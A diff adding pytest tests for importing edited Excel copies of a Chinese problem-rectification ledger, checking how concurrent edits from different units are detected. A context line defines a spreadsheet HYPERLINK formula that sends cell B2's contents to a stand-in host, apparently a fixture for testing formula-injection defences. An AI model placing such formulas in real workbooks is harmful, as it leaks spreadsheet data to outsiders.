@@ -153,6 +153,43 @@ def test_several_returned_files_in_one_command(repo: Path, tmp_path: Path, capsy
     assert "P-028 的新措施" in (repo / "problems" / "xiling-county.yaml").read_text(encoding="utf-8")
 
 
+
+def test_two_offices_copies_of_one_ledger_each_bring_their_own_edit(repo: Path, tmp_path: Path, capsys: pytest.CaptureFixture[str]) -> None:
+    """The whole ledger sent to every unit: the rows a unit left as they were are not a second edit."""
+    whole = _export(capsys, repo, tmp_path / "all.xlsx", "--kind", "problems")
+    for ident, name in (("P-002", "a.xlsx"), ("P-028", "b.xlsx")):
+        book = load_workbook(whole)
+        sheet = book["问题清单"]
+        sheet.cell(row=_row(sheet, ident), column=_column(sheet, "整改措施")).value = f"{ident} 的新措施"
+        book.save(tmp_path / name)
+    ran = dy(capsys, repo, "import", str(tmp_path / "a.xlsx"), str(tmp_path / "b.xlsx"), "--dry-run")
+    assert ran.code == 0, ran.err
+    assert "修改 2 条记录" in ran.out and "已出现过" not in ran.err
+    book = load_workbook(tmp_path / "b.xlsx")
+    sheet = book["问题清单"]
+    sheet.cell(row=_row(sheet, "P-002"), column=_column(sheet, "整改措施")).value = "另一个单位也改了"
+    book.save(tmp_path / "b.xlsx")
+    ran = dy(capsys, repo, "import", str(tmp_path / "a.xlsx"), str(tmp_path / "b.xlsx"), "--dry-run")
+    assert ran.code == 1 and "P-002" in ran.err and "已出现过" in ran.err, ran.err
+
+
+def test_a_row_the_unit_left_alone_is_no_conflict_when_its_record_changed(repo: Path, tmp_path: Path,
+                                                                         capsys: pytest.CaptureFixture[str]) -> None:
+    """Rows are compared with the cells as exported, not with the record as it is now."""
+    book = load_workbook(_export(capsys, repo, tmp_path / "xl.xlsx", "--unit", "xiling-county", "--kind", "problems"))
+    sheet = book["问题清单"]
+    sheet.cell(row=_row(sheet, "P-028"), column=_column(sheet, "整改措施")).value = "新措施"
+    book.save(tmp_path / "back.xlsx")
+    path = repo / "problems" / "xiling-county.yaml"
+    text = path.read_text(encoding="utf-8")
+    assert "推进周边乡镇污水管网接入，" in text  # P-030, changed by the office after the export
+    path.write_text(text.replace("推进周边乡镇污水管网接入，", "推进周边乡镇污水管网全部接入，"), encoding="utf-8")
+    ran = dy(capsys, repo, "import", str(tmp_path / "back.xlsx"))
+    assert ran.code == 0, ran.err
+    assert "修改 1 条记录" in ran.out and "冲突" not in ran.err
+    text = path.read_text(encoding="utf-8")
+    assert "新措施" in text and "推进周边乡镇污水管网全部接入，" in text
+
 HOSTILE = '=HYPERLINK("http://example.invalid/?"&B2,"点击")'
 
 
